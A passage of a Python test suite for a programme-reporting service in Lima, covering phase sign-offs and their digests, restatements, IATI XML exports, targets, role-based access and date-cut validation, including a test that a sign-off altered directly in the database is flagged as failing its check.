    assert figures == signed.json()["figures"]
    assert digest_of("F1", datetime.fromisoformat(said_cut.replace("Z", "+00:00")), figures) == digest


def test_the_iati_file_names_the_sign_off_from_the_latest_cut_though_an_older_cut_was_signed_after_it(
    desk: tuple[TestClient, FakeNow],
) -> None:
    """Tester 271 F3: signing an older cut again (to reproduce a report given out before) made every comment of the phase
    name that cut and restate from it. The phase's sign-off is the one from the latest cut; of one cut signed twice (facts
    recorded by it reached reporting after the first), the one signed last."""
    client, clock = desk
    programme(client)
    newer, older = at(SIGNED_CUT), at(SIGNED_CUT) - timedelta(minutes=30)
    late_osv(client, 2, newer - timedelta(minutes=10), "osv-2")  # between the two cuts: their figures differ
    first = client.post("/phases/F1/sign-offs", headers=LEAD(), json={"as_of": stamp(newer)}).json()
    clock.moment = at(4401)
    again = client.post("/phases/F1/sign-offs", headers=LEAD(), json={"as_of": stamp(older)})
    assert again.status_code == 201 and again.json()["figures"]["osvs_identified"] == 1 and first["figures"]["osvs_identified"] == 2
    clock.moment = at(6000)

    document = client.get("/iati/activity.xml").content
    assert signed_said(document) == {(first["signed_at"], stamp(newer), first["digest"])}
    assert actual_total(document, "OSVs identified") == "2"
    comment = next(n.text or "" for n in ET.fromstring(document).iter("narrative") if "Signed off by" in (n.text or ""))
    assert "Not restated since." in comment  # the current figures are the newer cut's
    # before the older cut was signed, the same
    assert signed_said(client.get("/iati/activity.xml", params={"as_of": stamp(at(4400))}).content) == signed_said(document)

    # a fact recorded by the newer cut reaches reporting late, and the lead signs that cut again: the one signed last
    late_osv(client, 3, newer - timedelta(seconds=1), "osv-3")
    clock.moment = at(6001)
    redone = client.post("/phases/F1/sign-offs", headers=LEAD(), json={"as_of": stamp(newer)})
    assert redone.status_code == 201 and redone.json()["figures"]["osvs_identified"] == 3
    assert signed_said(client.get("/iati/activity.xml").content) == {(redone.json()["signed_at"], stamp(newer), redone.json()["digest"])}


def test_a_merge_dated_after_the_sign_offs_day_is_out_of_its_figures_and_named_in_its_restatement_once_it_counts(
    desk: tuple[TestClient, FakeNow],
) -> None:
    """Tester 271 F2: a fact recorded by a cut but dated after its day in Lima counts from its day on. A merge of two
    records of one OSV, typed in on 2 July as of the 3rd, is not in F1's figures signed from a cut on the 2nd (both
    OSVs identified), reproduced by that cut whenever asked; once the 3rd came it takes one back, and the restatement
    names it though it was recorded before the cut."""
    client, clock = desk
    programme(client)
    cut = at(SIGNED_CUT)  # 2 July 2021, 08:00 in Lima
    application_of(client).readmodel.apply([
        cloudevent("registry", 2, "OSVMapped", "osv-2", at(3), osv_id="osv-2", name="OSV Unidos 2", district="San Juan de Lurigancho",
                   zone="Lima Este", mapped_on="2021-02-01", occurred_on="2021-02-01"),
        cloudevent("registry", 3, "OSVMerged", "osv-2", cut - timedelta(hours=1), osv_id="osv-2", into_osv_id="osv-1",
                   merged_on="2021-07-03", district="San Juan de Lurigancho", zone="Lima Este", mapped_on="2021-02-01",
                   occurred_on="2021-07-03"),
    ])
    signed = client.post("/phases/F1/sign-offs", headers=LEAD(), json={"as_of": stamp(cut)})
    assert signed.status_code == 201 and signed.json()["figures"]["osvs_identified"] == 2
    clock.moment = at(6000)

    [listed] = client.get("/sign-offs").json()["sign_offs"]
    assert listed["reproduced"] is True
    [identified] = [r for r in listed["restatement"] if r["indicator"] == "osvs_identified"]
    assert [(p["signed"], p["current"]) for p in identified["parts"]] == [(2, 1)]
    assert "registry:3" in [e["event_id"] for e in identified["events"]]


def rewrite_signed_figure(var_dir: Path, database_url: str, indicator: str, by: int) -> None:
    """Change one figure of the recorded ``PhaseSignedOff`` in reporting's store, as someone with the database could."""
    if database_url.startswith("sqlite"):
        connection = sqlite3.connect(var_dir / "reporting" / "events.db")
        select = "SELECT rowid, state FROM stored_events WHERE topic LIKE ?"
        update = "UPDATE stored_events SET state = ? WHERE rowid = ?"
    else:
        connection = psycopg.connect(database_url.replace("postgresql+psycopg:", "postgresql:"))
        select = "SELECT notification_id, state FROM phasereports_events WHERE topic LIKE %s"
        update = "UPDATE phasereports_events SET state = %s WHERE notification_id = %s"
    try:
        [(position, state)] = connection.execute(select, ("%PhaseSignedOff",)).fetchall()
        event = json.loads(bytes(state))
        event["figures"][indicator] += by
        connection.execute(update, (json.dumps(event, separators=(",", ":")).encode(), position))
        connection.commit()
    finally:
        connection.close()


def test_a_sign_off_changed_in_the_store_is_flagged_never_a_restatement_and_the_donor_is_not_given_its_figures(
    desk: tuple[TestClient, FakeNow], tmp_path: Path, database_url: str
) -> None:
    """Figures that no longer give the sign-off's own digest are not the lead's: no reader is told they were signed."""
    client, clock = desk
    programme(client)
    signed = client.post("/phases/F1/sign-offs", headers=LEAD(), json={"as_of": stamp(at(SIGNED_CUT))})
    assert signed.status_code == 201, signed.text
    assert signed.json()["intact"] is True and signed.json()["figures"]["osvs_identified"] == 1
    clock.moment = at(6000)

    rewrite_signed_figure(tmp_path, database_url, "osvs_identified", 20)

    [listed] = client.get("/sign-offs").json()["sign_offs"]
    assert listed["figures"]["osvs_identified"] == 21 and listed["digest"] == signed.json()["digest"]  # what the store holds now
    assert (listed["intact"], listed["reproduced"], listed["restatement"]) == (False, False, None)  # not sound, no later facts
    then = client.get("/sign-offs", params={"as_of": stamp(at(4600))}).json()["sign_offs"]
    assert [(s["intact"], s["restatement"]) for s in then] == [(False, None)]

    document = client.get("/iati/activity.xml").content
    xmlschema.XMLSchema(str(iati.schema_path())).validate(document.decode())
    comments = [c.text or "" for c in ET.fromstring(document).iter("narrative") if "Signed off by" in (c.text or "")]
    assert comments and all("failed its check" in c for c in comments)
    assert not any("Restated" in c or "signed 21" in c or "signed 17" in c for c in comments)  # no signed figure given out
    assert actual_total(document, "OSVs identified") == "1"  # the actual is still the current figure


def test_a_phase_is_signed_off_only_from_facts_already_recorded_and_once_it_was_known(desk: tuple[TestClient, FakeNow]) -> None:
    client, _ = desk
    programme(client)
    future = client.post("/phases/F1/sign-offs", headers=LEAD(), json={"as_of": stamp(at(4401))})
    assert future.status_code == 422 and future.json()["errors"][0]["field"] == "as_of"
    before_phase = client.post("/phases/F1/sign-offs", headers=LEAD(), json={"as_of": stamp(at(0) - timedelta(hours=1))})
    assert before_phase.status_code == 422  # the phase is known now: the cut is at fault, not the phase's code
    assert [(e["field"], e["rule"]) for e in before_phase.json()["errors"]] == [("as_of", "phase_opened_by_cut")]
    assert client.post("/phases/F9/sign-offs", headers=LEAD(), json={"as_of": stamp(at(100))}).status_code == 404
    # break29: a cut on or before the phase's last day (in Lima) signs a phase that had not ended: 409, naming the rule
    for within_phase in (at(100), datetime.fromisoformat("2021-06-30T23:59:59-05:00")):
        unended = client.post("/phases/F1/sign-offs", headers=LEAD(), json={"as_of": stamp(within_phase)})
        assert_problem(unended, 409, "as_of", "phase_ended_by_cut")
        assert "2021-06-30" in unended.json()["detail"]
    ended = client.post("/phases/F1/sign-offs", params={"dry_run": "true"}, headers=LEAD(), json={"as_of": "2021-07-01T00:00:00-05:00"})
    assert ended.status_code == 201, ended.text  # its first day after
    naive = client.post("/phases/F1/sign-offs", headers=LEAD(), json={"as_of": "2021-01-10T10:00:00"})
    assert naive.status_code == 422
    for out_of_range in ("0001-01-01T00:00:00+05:00", "1969-12-31T23:59:59Z", "0001-01-01T00:00:00Z"):  # once a 500
        refused = client.post("/phases/F1/sign-offs", headers=LEAD(), json={"as_of": out_of_range})
        assert refused.status_code == 422, (out_of_range, refused.text)
        assert [(e["field"], e["rule"]) for e in refused.json()["errors"]] == [("as_of", "moment_within_bounds")]
    assert client.get("/sign-offs").json()["sign_offs"] == []


def test_a_dry_run_sets_no_target_and_signs_nothing_and_an_oversized_body_is_refused(desk: tuple[TestClient, FakeNow]) -> None:
    client, _ = desk
    programme(client)
    body = {"target": {"value": 3}}
    tried = client.put("/phases/F1/targets/osvs_identified", params={"dry_run": "true"}, headers=LEAD(), json=body)
    assert tried.status_code == 200 and tried.headers["Dry-Run"] == "true"
    signed = client.post("/phases/F1/sign-offs", params={"dry_run": "true"}, headers=LEAD(), json={"as_of": stamp(at(SIGNED_CUT))})
    assert signed.status_code == 201 and signed.headers["Dry-Run"] == "true"
    assert client.get("/targets").json()["phases"][0]["indicators"] == []
    assert client.get("/sign-offs").json()["sign_offs"] == []

    huge = client.put("/phases/F1/targets/osvs_identified", headers=LEAD(), json={**body, "baseline": {f"part{i}": i for i in range(40_000)}})
    assert huge.status_code == 413


def test_only_a_lead_sets_targets_and_signs_off_and_a_focal_point_sees_its_municipalitys_share(desk: tuple[TestClient, FakeNow]) -> None:
    client, _ = desk
    programme(client)  # two workshops in San Juan de Lurigancho (150132)
    application_of(client).readmodel.apply([
        cloudevent("engagement", 3, "ActivityReported", "act-3", at(4), activity_id="act-3", osv_id="osv-2", held_on="2021-03-02",
                   occurred_on="2021-03-02", kind="fair", district="San Martín de Porres", zone="Lima Norte", indirect_beneficiaries=0,
                   grant_id=None, direct_beneficiaries=[{"nationality": "PE", "sex": "F", "count": 9}], outputs=[]),
    ])
    created_targets = client.put("/phases/F1/targets/beneficiaries_direct", headers=LEAD(), json={"target": {"total": 40}})
    assert created_targets.status_code == 200
    assert client.post("/phases/F1/sign-offs", headers=LEAD(), json={"as_of": stamp(at(SIGNED_CUT))}).status_code == 201

    staff = signed_in_headers("staff")
    for refused in (client.put("/phases/F1/targets/osvs_identified", headers=staff, json={"target": {"value": 3}}),
                    client.post("/phases/F1/sign-offs", headers=staff, json={"as_of": stamp(at(200))})):
        assert refused.status_code == 403 and refused.json()["permission"] == "phases:manage"
    assert client.get("/sign-offs", headers={"Authorization": ""}).status_code == 401

    auditor = signed_in_headers("auditor")
    for path in ("/targets", "/sign-offs", "/iati/activity.xml", "/activities/export.hxl.csv"):
        assert client.get(path, headers=auditor).status_code == 200, path
    assert len(client.get("/sign-offs", headers=auditor).json()["sign_offs"]) == 1

    # San Juan de Lurigancho's focal point: its own activities, its own figures, no programme-wide sign-off.
    focal = signed_in_headers("municipal-150132")
    sheet = client.get("/activities/export.hxl.csv", headers=focal)
    assert [r.get("#adm3+code") for r in hxl.data(io.BytesIO(sheet.content), hxl.InputOptions(allow_local=True))] == ["150132", "150132"]
    assert "San Martín de Porres" not in sheet.text
    assert client.get("/sign-offs", headers=focal).json()["sign_offs"] == []
    [row] = client.get("/targets", headers=focal).json()["phases"][0]["indicators"]
    assert (row["actual"]["total"], row["target"], row["share_reached"]) == (20, {"total": 40}, {"total": "0.5000"})
    assert actual_total(client.get("/iati/activity.xml", headers=focal).content, DIRECT) == "20"
    assert actual_total(client.get("/iati/activity.xml", headers=auditor).content, DIRECT) == "29"


def test_a_target_and_its_actual_are_written_alike_counts_as_numbers_money_and_rates_as_text(desk: tuple[TestClient, FakeNow]) -> None:
    """Tester 218 F3: a target of 100 people came back as "100" beside an actual of 28, so a client comparing them compared
    a string with a number. Each part is written as the indicator's figures are, in the answer and in GET /targets."""
    client, _ = desk
    programme(client)
    aims = {
        "beneficiaries_direct": {"total": 100, "by_sex.F": "60"},
        "seed_funds_granted_pen": {"value": "25000.50"},
        "ruos_registration_rate": {"value": 0.25},
        "osvs_supported": {"total": 10, "first_time": 6},
    }
    for indicator, target in aims.items():
        answer = client.put(f"/phases/F1/targets/{indicator}", headers=LEAD(), json={"baseline": {}, "target": target})
        assert answer.status_code == 200, answer.text
    rows = {r["indicator"]: r for r in client.get("/targets").json()["phases"][0]["indicators"]}
    assert rows["beneficiaries_direct"]["target"] == {"total": 100, "by_sex.F": 60}
    assert rows["seed_funds_granted_pen"]["target"] == {"value": "25000.50"}
    assert rows["ruos_registration_rate"]["target"] == {"value": "0.2500"}
    assert rows["osvs_supported"]["target"] == {"total": 10, "first_time": 6}
    for indicator, row in rows.items():
        actual = flatten(row["actual"])
        for part, aim in row["target"].items():
            assert type(aim) is type(actual[part]), (indicator, part, aim, actual)


def test_a_focal_points_iati_file_is_its_municipalitys_own_activity_under_the_programmes(desk: tuple[TestClient, FakeNow]) -> None:
    """An IATI identifier names one activity: a district's figures under the programme's would contradict the programme's file."""
    client, _ = desk
    programme(client)  # San Juan de Lurigancho (150132)
    assert client.put("/phases/F1/targets/beneficiaries_direct", headers=LEAD(), json={"target": {"total": 40}}).status_code == 200
    schema = xmlschema.XMLSchema(str(iati.schema_path()))

    whole = client.get("/iati/activity.xml", headers=signed_in_headers("auditor")).content
    share = client.get("/iati/activity.xml", headers=signed_in_headers("municipal-150132")).content
    schema.validate(share.decode())
    programme_activity, share_activity = (ET.fromstring(d).find("iati-activity") for d in (whole, share))
    assert programme_activity is not None and share_activity is not None

    assert programme_activity.findtext("iati-identifier") == "XM-DAC-47066-PE-OSV-LIMA"
    assert programme_activity.get("hierarchy") is None and programme_activity.find("related-activity") is None
    assert share_activity.findtext("iati-identifier") == "XM-DAC-47066-PE-OSV-LIMA-150132"
    assert share_activity.get("hierarchy") == "2"  # a sub-activity, whose parent is the programme's
    [parent] = share_activity.findall("related-activity")
    assert (parent.get("ref"), parent.get("type")) == ("XM-DAC-47066-PE-OSV-LIMA", "1")
    assert parent.get("type") in iati.codelist("RelatedActivityType")
    for element in ("title", "description"):
        said = [n.text or "" for n in share_activity.findall(f"{element}/narrative")]
        assert said and all("San Juan de Lurigancho (ubigeo 150132)" in text for text in said), said
        assert said != [n.text for n in programme_activity.findall(f"{element}/narrative")]
    # its actuals are the district's; the target it carries is the programme's, and says so
    target = next(t for t in share_activity.iter("target") if t.find("dimension") is None)
    assert target.get("value") == "40" and "whole programme's" in (target.findtext("comment/narrative") or "")
    assert actual_total(share, DIRECT) == "20"


class FakeDay:
    """Reporting's date clock, the day of a :class:`FakeNow` in Lima."""

    def __init__(self, now: FakeNow) -> None:
        self.now = now

    def __call__(self) -> date:
        return self.now().astimezone(LIMA).date()


def test_a_phase_that_has_not_started_has_no_figures_and_a_phase_is_signed_off_only_once_it_ended(tmp_path: Path) -> None:
    """break29 #3: a phase opened ahead (2027, in 2026) had "actual" figures (44 agents of change, projects, a rate), and a
    lead could sign it off, twice. Its days have not happened: it counts nothing until it starts, and is signed after it ends."""
    clock = FakeNow(datetime.fromisoformat("2021-08-10T10:00:00-05:00"))  # F1 ended, F2 under way, F3 ahead
    phases = [("F1", "2021-01-01", "2021-06-30"), ("F2", "2021-07-01", "2021-12-31"), ("F3", "2022-01-01", "2022-06-30")]
    with service_client("reporting", tmp_path, application=functools.partial(Reporting, now=clock), today=FakeDay(clock)) as client:
        application_of(client).readmodel.apply([
            *(cloudevent("funding", n, "PhaseOpened", f"p{n}", at(n), phase_id=f"p{n}", code=code, name=f"Fase {code}", starts_on=starts,
                         ends_on=ends, occurred_on=starts) for n, (code, starts, ends) in enumerate(phases, 1)),
            cloudevent("registry", 1, "OSVMapped", "osv-1", at(4), osv_id="osv-1", name="OSV Unidos", district="San Juan de Lurigancho",
                       zone="Lima Este", mapped_on="2021-01-05", occurred_on="2021-01-05"),
            cloudevent("registry", 2, "RUOSRegistered", "osv-1", at(5), osv_id="osv-1", ruos_number="R-1", registered_on="2021-03-01",
                       municipality_id="mml", occurred_on="2021-03-01"),
            cloudevent("funding", 4, "FundGranted", "g-1", at(6), grant_id="g-1", osv_id="osv-1", amount="5000.00", currency="PEN",
                       kind="seed_fund", granted_on="2021-02-01", occurred_on="2021-02-01"),
            cloudevent("engagement", 1, "ParticipantEnrolled", "m-1", at(7), member_id="m-1", grant_id="g-1", osv_id="osv-1",
                       nationality="VE", sex="F", age_band="30-44", enrolled_on="2021-02-02", occurred_on="2021-02-02"),
        ])
        answer = client.get("/indicators").json()
        f2, f3 = (p["indicators"] for p in answer["phases"][1:])
        assert (f2["agents_of_change"]["total"], f2["projects_active"], f2["ruos_registration_rate"]) == (1, 1, "1.0000")
        assert (f3["agents_of_change"]["total"], f3["projects_active"], f3["osvs_registered_ruos_cumulative"], f3["ruos_registration_rate"]) == (
            0, 0, 0, "0.0000")
        assert [p["status"] for p in answer["phases"]] == ["ended", "in_progress", "not_started"]
        assert answer["total"]["agents_of_change"]["total"] == 1  # the total holds what happened
        assert client.get("/indicators/agents_of_change/evidence", params={"phase": "F3"}).json()["events"] == []
        then = client.get("/indicators", params={"as_of": "2021-05-01T12:00:00-05:00"}).json()  # the status is the cut's
        assert [p["status"] for p in then["phases"]] == ["in_progress", "not_started", "not_started"]
        assert then["phases"][1]["indicators"]["agents_of_change"]["total"] == 0

        for code in ("F2", "F3"):
            refused = client.post(f"/phases/{code}/sign-offs", headers=LEAD(), json={"as_of": stamp(clock())})
            assert_problem(refused, 409, "as_of", "phase_ended_by_cut")
        assert client.get("/sign-offs").json()["sign_offs"] == []
        assert client.post("/phases/F1/sign-offs", headers=LEAD(), json={"as_of": stamp(clock())}).status_code == 201

        # the dashboard and the exports say so too: no figure for F3, marked as not started
        page = client.get("/dashboard", params={"lang": "en"}).text
        assert 'data-phase="F3" data-status="not_started"' in page and "not started: no figures" in page
        assert "in progress: figures to date" in page
        for chart in ("chart-phases", "chart-beneficiaries"):  # nor in the charts, drawn as zeros (tester 178 F5)
            drawn = re.search(rf'<svg [^>]*id="{chart}".*?</svg>', page, re.S)
            assert drawn is not None and "Fase F2" in drawn.group() and "Fase F3" not in drawn.group()
        charts = page[page.index('<section id="charts"'):page.index("</section>", page.index('<section id="charts"'))]
        assert "Fase F3" not in charts  # the charts' data tables included
        exported = client.get("/indicators/export.csv", params={"lang": "en"}).content.decode("utf-8-sig")
        rows = [r for r in csv.DictReader(io.StringIO(exported)) if r["Group"] == "Whole programme"]
        assert {r["Value"] for r in rows if r["Phase"] == "Fase F3"} == {""}
        assert {r["Value"] for r in rows if r["Phase"] == "Fase F2" and r["Indicator code"] == "projects_active"} == {"1"}
        # and the donors' IATI file: F3's periods carry no actual (a zero would be a figure), F2's do; still valid
        document = client.get("/iati/activity.xml").content
        periods = ET.fromstring(document).findall(".//indicator/period")
        by_start = {start: [p for p in periods if p.find("period-start").get("iso-date") == start] for start in ("2021-07-01", "2022-01-01")}
        assert by_start["2022-01-01"] and all(p.find("actual") is None for p in by_start["2022-01-01"])
        assert by_start["2021-07-01"] and all(p.find("actual") is not None for p in by_start["2021-07-01"])
        xmlschema.XMLSchema(str(iati.schema_path())).validate(document.decode())
        # and targets against actuals: F3's target stands, with no actual and no share, not "0% reached" (tester 37c F7)
        assert client.put("/phases/F3/targets/osvs_identified", headers=LEAD(), json={"target": {"value": 4}}).status_code == 200
        f3 = next(p for p in client.get("/targets").json()["phases"] if p["code"] == "F3")
        assert f3["status"] == "not_started"
        assert [(r["indicator"], r["target"], r["actual"], r["share_reached"]) for r in f3["indicators"]] == [
            ("osvs_identified", {"value": 4}, None, None)
        ]
        assert client.get("/dashboard", params={"lang": "en"}).status_code == 200  # its targets table shows "—" for them


def test_a_phase_in_progress_counts_its_days_so_far_and_a_fact_dated_tomorrow_from_tomorrow_on(tmp_path: Path) -> None:
    """Tester 271 F2: on 7 December in Lima a member recorded as joining on the 8th (the date rule's day of margin) was in
    F3's members_joined, a phase in progress. Its days so far are counted, in every figure and every file; the 8th's
    facts from the 8th on. Checkpoints made of every fact (each two facts here) serve no report of the 7th."""
    clock = FakeNow(datetime.fromisoformat("2026-12-07T10:00:00-05:00"))
    recorded = datetime(2026, 12, 7, 13, tzinfo=timezone.utc)  # 08:00 in Lima, the 7th
    events = [
        cloudevent("funding", 1, "PhaseOpened", "p2", recorded, phase_id="p2", code="F2", name="Fase F2", starts_on="2026-07-01",
                   ends_on="2026-11-30", occurred_on="2026-07-01"),
        cloudevent("funding", 2, "PhaseOpened", "p3", recorded, phase_id="p3", code="F3", name="Fase F3", starts_on="2026-12-01",
                   ends_on="2026-12-31", occurred_on="2026-12-01"),
        cloudevent("registry", 1, "OSVMapped", "osv-1", recorded, osv_id="osv-1", name="OSV Unidos", district="San Juan de Lurigancho",
                   zone="Lima Este", mapped_on="2026-11-10", occurred_on="2026-11-10"),
        cloudevent("engagement", 1, "MemberJoined", "m-1", recorded + timedelta(minutes=1), member_id="m-1", membership_id="m-1",
                   osv_id="osv-1", role="member", nationality="VE", sex="F", age_band="30-44", joined_on="2026-12-05",
                   occurred_on="2026-12-05"),
        cloudevent("engagement", 2, "MemberJoined", "m-2", recorded + timedelta(minutes=2), member_id="m-2", membership_id="m-2",
                   osv_id="osv-1", role="member", nationality="PE", sex="M", age_band="30-44", joined_on="2026-12-08",
                   occurred_on="2026-12-08"),
        cloudevent("funding", 3, "FundGranted", "g-1", recorded + timedelta(minutes=3), grant_id="g-1", osv_id="osv-1", amount="1000.00",
                   currency="PEN", kind="seed_fund", granted_on="2026-12-08", occurred_on="2026-12-08"),
    ]
    settings = {"checkpoint_every": 2, "checkpoint_settle_seconds": 0}
    with service_client("reporting", tmp_path, settings=settings, application=functools.partial(Reporting, now=clock),
                        today=FakeDay(clock)) as client:
        application_of(client).readmodel.apply(events)
        assert application_of(client).readmodel.checkpoints()

        answer = client.get("/indicators").json()
        f3 = answer["phases"][1]
        assert f3["status"] == "in_progress"
        assert f3["indicators"]["members_joined"] == {"total": 1, "by_nationality": {"VE": 1}, "by_sex": {"F": 1}}
        assert (f3["indicators"]["seed_funds_granted_pen"], f3["indicators"]["projects_active"], answer["total"]["members_joined"]["total"]) == (
            "0.00", 0, 1)
        cut = stamp(clock())
        as_of = client.get("/indicators", params={"as_of": cut}).json()
        assert (as_of["phases"], as_of["total"]) == (answer["phases"], answer["total"])
        assert [e["event_id"] for e in client.get("/indicators/members_joined/evidence", params={"phase": "F3"}).json()["events"]] == [
            "engagement:1"]
        rows = csv.DictReader(io.StringIO(client.get("/indicators/export.csv", params={"lang": "en"}).content.decode("utf-8-sig")))
        assert {r["Part"]: r["Value"] for r in rows if r["Phase"] == "Fase F3" and r["Indicator code"] == "members_joined"
                and r["Group"] == "Whole programme"}["Total"] == "1"
        assert actual_total(client.get("/iati/activity.xml").content, "Seed funds granted (PEN)", period=1) == "0.00"
        assert client.put("/phases/F3/targets/members_joined", headers=LEAD(), json={"target": {"total": 10}}).status_code == 200
        [row] = next(p for p in client.get("/targets").json()["phases"] if p["code"] == "F3")["indicators"]
        assert (row["actual"]["total"], row["share_reached"]) == (1, {"total": "0.1000"})

        clock.moment = datetime.fromisoformat("2026-12-08T09:00:00-05:00")  # the 8th: its facts count
        f3 = client.get("/indicators").json()["phases"][1]["indicators"]
        assert (f3["members_joined"]["total"], f3["seed_funds_granted_pen"], f3["projects_active"]) == (2, "1000.00", 1)
        again = client.get("/indicators", params={"as_of": cut}).json()  # the 7th's cut, as it was: same figures, same digest
        assert (again["phases"], again["digest"]) == (as_of["phases"], as_of["digest"])

@pytest.mark.parametrize(
    ("method", "path"),
    [("get", "/indicators"), ("get", "/targets"), ("get", "/sign-offs"), ("get", "/indicators/export.csv"), ("get", "/iati/activity.xml"),
     ("get", "/activities/export.hxl.csv"), ("get", "/indicators/osvs_identified/evidence?phase=F1"), ("post", "/phases/F1/sign-offs")],
)
def test_a_moment_to_come_is_refused_as_of_with_422_naming_the_field(desk: tuple[TestClient, FakeNow], method: str, path: str) -> None:
    """Figures as of tomorrow would change as facts arrive: a sign-off from them could never be reproduced."""
    client, clock = desk
    programme(client)
    clock.moment = at(4000)
    tomorrow = stamp(at(4024))
    if method == "post":
        answer = client.post(path, headers=LEAD(), json={"as_of": tomorrow})
    else:
        answer = client.get(path, headers=LEAD(), params={"as_of": tomorrow})
    assert answer.status_code == 422, answer.text
    assert answer.headers["content-type"].startswith("application/problem+json")
    [error] = answer.json()["errors"]
    assert (error["field"], error["rule"]) == ("as_of", "not_in_future")
    assert client.get("/sign-offs", headers=LEAD()).json()["sign_offs"] == []  # nothing signed
    assert client.get(path.split("?")[0] if method == "get" else "/indicators", headers=LEAD(),
                      params={"as_of": stamp(at(3999)), **({"phase": "F1"} if "evidence" in path else {})}).status_code == 200
